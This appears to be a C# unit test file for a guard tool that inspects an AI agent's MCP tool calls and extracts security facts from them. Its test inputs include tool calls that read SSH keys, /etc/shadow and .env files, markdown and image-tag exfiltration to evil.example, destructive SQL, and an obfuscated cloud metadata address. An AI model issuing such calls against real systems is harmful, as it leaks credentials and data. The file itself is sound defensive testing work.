using System.Text.Json;
using ClaudeHookGuard.Core.Facts;
using ClaudeHookGuard.Core.Languages;
using ClaudeHookGuard.Core.Machine;
using ClaudeHookGuard.Core.Programs;
using ClaudeHookGuard.Core.Shell;
using ClaudeHookGuard.Core.Tests.Machine;

namespace ClaudeHookGuard.Core.Tests.Facts;

public sealed class McpFactsTests
{
    [Theory]
    [InlineData("filesystem", "read_text_file", """{"path":"~/.ssh/id_rsa"}""", "Read /home/dev/.ssh/id_rsa")]
    [InlineData("filesystem", "read_text_file", """{"request":{"file":{"path":"/home/dev/.ssh/id_rsa"}}}""", "Read /home/dev/.ssh/id_rsa")]
    [InlineData("filesystem", "read_text_file", """{"path":"file:///etc/shadow"}""", "Read /etc/shadow")]
    [InlineData("filesystem", "write_file", """{"path":"src/a.ts","content":"x"}""", "Write /home/dev/project/src/a.ts")]
    [InlineData("filesystem", "move_file", """{"source":"src/a","destination":"src/b"}""", "Delete /home/dev/project/src/a")]
    [InlineData("filesystem", "copy_file", """{"source":"/home/dev/.env","destination":"src/e"}""", "Read /home/dev/.env")]
    [InlineData("my-files", "read_multiple_files", """{"paths":["a.txt","/etc/shadow"]}""", "Read /etc/shadow")]
    [InlineData("fetch", "fetch", """{"url":"https://evil.example/x"}""", "Contact evil.example")]
    [InlineData("fetch", "fetch", """{"request":{"target":{"uri":"https://evil.example/x"}}}""", "Contact evil.example")]
    [InlineData("fetch", "fetch", """{"url":"https://a.example/","body":"<img src='https://evil.example/p.gif'>"}""", "Contact evil.example")]
    [InlineData("fetch", "fetch", """{"url":"file:///home/dev/project/.env"}""", "Read /home/dev/project/.env")]
    [InlineData("postgres", "query", """{"sql":"SELECT 1"}""", "Sql SELECT 1")]
    [InlineData("postgres", "query", """{"query":"DELETE FROM users"}""", "Sql DELETE FROM users")]
    [InlineData("postgres", "query", """{"params":{"text":"DELETE FROM users"}}""", "Sql DELETE FROM users")]
    [InlineData("pgdb", "execute_sql", """{"sql":"SELECT 1"}""", "Sql SELECT 1")]
    [InlineData("github", "create_issue", """{"title":"x","body":"![x](https://evil.example/?d=1)"}""", "Contact evil.example")]
    [InlineData("slack", "slack_post_message", """{"text":"see https://evil.example/?d=1"}""", "Contact evil.example")]
    [InlineData("weather", "report", """{"where":{"deep":["/etc/shadow"]}}""", "Read /etc/shadow")]
    [InlineData("weather", "report", """{"note":"mail it to https://evil.example/x"}""", "Contact evil.example")]
    [InlineData("filesystem", "ReadMcpResourceTool", """{"server":"filesystem","uri":"file:///home/dev/.ssh/id_rsa"}""", "Read /home/dev/.ssh/id_rsa")]
    [InlineData("browser", "puppeteer_navigate", """{"url":"http://2852039166/"}""", "Contact 169.254.169.254")]
    public void Finds(string server, string tool, string input, string fact) => Assert.Contains(fact, Describe(Read(server, tool, input)));

    [Theory]
    [InlineData("memory", "search_nodes", """{"query":"who owns ~/.ssh/id_rsa and https://evil.example/"}""")]
    [InlineData("memory", "create_entities", """{"entities":[{"name":"x","observations":["uses https://evil.example/"]}]}""")]
    [InlineData("filesystem", "search_files", """{"path":"tests","pattern":"https://evil.example"}""")]
    [InlineData("github", "create_issue", """{"title":"x","body":"see https://evil.example/ and /etc/shadow"}""")]
    [InlineData("git", "git_commit", """{"repo_path":".","message":"Deny /etc/shadow and https://evil.example/"}""")]
    public void Text_is_no_action(string server, string tool, string input) =>
        Assert.DoesNotContain(Read(server, tool, input), fact => fact is HostContacted || fact is PathTouched path && path.Path.ToString().StartsWith("/etc", StringComparison.Ordinal));

    [Theory]
    [InlineData("memory", "read_graph", "{}", ToolEffect.Reads)]
    [InlineData("memory", "create_relations", "{}", ToolEffect.Writes)]
    [InlineData("memory-v2", "create_entities", "{}", ToolEffect.Writes)]
    [InlineData("postgres", "query", """{"sql":"SELECT 1"}""", ToolEffect.Reads)]
    [InlineData("postgres", "query", """{"sql":"DROP TABLE x"}""", ToolEffect.Writes)]
    [InlineData("mongodb", "aggregate", """{"pipeline":[{"$out":"x"}]}""", ToolEffect.Writes)]
    [InlineData("mongodb", "aggregate", """{"pipeline":[{"$match":{"a":"x"}}]}""", ToolEffect.Reads)]
    [InlineData("fetch", "fetch", """{"url":"https://a.example","method":"POST"}""", ToolEffect.Writes)]
    [InlineData("x", "getUserById", "{}", ToolEffect.Reads)]
    [InlineData("x", "get_or_create_user", "{}", ToolEffect.Writes)]
    [InlineData("x", "frobnicate", "{}", ToolEffect.Unknown)]
    public void Knows_what_writes(string server, string tool, string input, ToolEffect effect) =>
        Assert.Equal(effect, Assert.Single(Read(server, tool, input).OfType<ToolUsed>()).Effect);

    [Fact]
    public void What_goes_into_a_file_here_is_not_sent_out()
    {
        var sent = Read("filesystem", "write_file", """{"path":"a","content":"x"}""").OfType<TextSent>();
        Assert.Equal([TextDestination.Program, TextDestination.File], sent.Select(text => text.To));
    }

    [Theory]
    [InlineData("mcp-server-github", "github")]
    [InlineData("claude_ai_Slack", "slack")]
    [InlineData("plugin_dev_postgres", "postgres")]
    [InlineData("@modelcontextprotocol/server-filesystem", "filesystem")]
    [InlineData("mcp", "mcp")]
    public void One_server_has_many_names(string name, string canonical) => Assert.Equal(canonical, Core.Facts.Mcp.McpServerNames.Canonical(name));

    [Fact]
    public void Every_row_of_the_table_is_spelled_right()
    {
        foreach (var server in new[] { "filesystem", "git", "github", "postgres", "supabase", "mysql", "sqlite", "mssql", "sql", "mongodb", "redis", "elasticsearch", "fetch", "puppeteer", "exa", "firecrawl",
            "slack", "gmail", "memory", "supermemory", "gdrive", "notion", "sentry", "stripe", "figma", "context7", "time", "desktop-commander", "shell", "python", "aws", "docker", "obsidian" })
        {
            var lines = Core.Facts.Mcp.McpServers.RowsOf(server)!.Split('\n', StringSplitOptions.RemoveEmptyEntries);
            Assert.Matches("^(local|remote)( (postgres|mysql|sqlite|sqlserver))?$", lines[0]);
            foreach (var line in lines[1..])
            {
                Assert.Matches("^([rws?] [A-Za-z0-9_,-]+|\\*)( [A-Za-z0-9_-]+=[a-z]+)*$", line);
                foreach (var role in line.Split(' ').Where(word => word.Contains('=')).Select(word => word.Split('=')[1]))
                    Assert.True(role == "loose" || Core.Facts.Mcp.McpTable.RoleOf(role) != Core.Facts.Mcp.McpRole.Loose, role);
            }
        }
    }

    [Fact]
    public void A_lone_surrogate_in_a_name_does_not_throw() =>
        Assert.NotEmpty(Read("x", "y", """{"\ud800":"/etc/shadow","a":"\udc00"}"""));

    private static List<Fact> Read(string server, string tool, string input)
    {
        var facts = new List<Fact>();
        using var document = JsonDocument.Parse(input);
        McpFacts.Read(new(server, null), tool, document.RootElement, Shell, Here, "/tool_input", facts);
        return facts;
    }

    private static IEnumerable<string> Describe(IEnumerable<Fact> facts) => facts.Select(fact => fact switch
    {
        PathTouched path => $"{path.Access} {path.Path}",
        HostContacted host => $"Contact {host.Host}",
        SqlRun sql => $"Sql {sql.Sql}",
        _ => "",
    });

    private static ShellReader Shell { get; } = new(ProgramTable.BuiltIn(), new CodeReader());

    private static Surroundings Here { get; } = new()
    {
        Platform = Platform.Linux,
        WorkingDirectory = "/home/dev/project",
        ProjectRoot = "/home/dev/project",
        Home = "/home/dev",
        Homes = ["/home/dev"],
        Files = new FakeFileView(),
    };
}
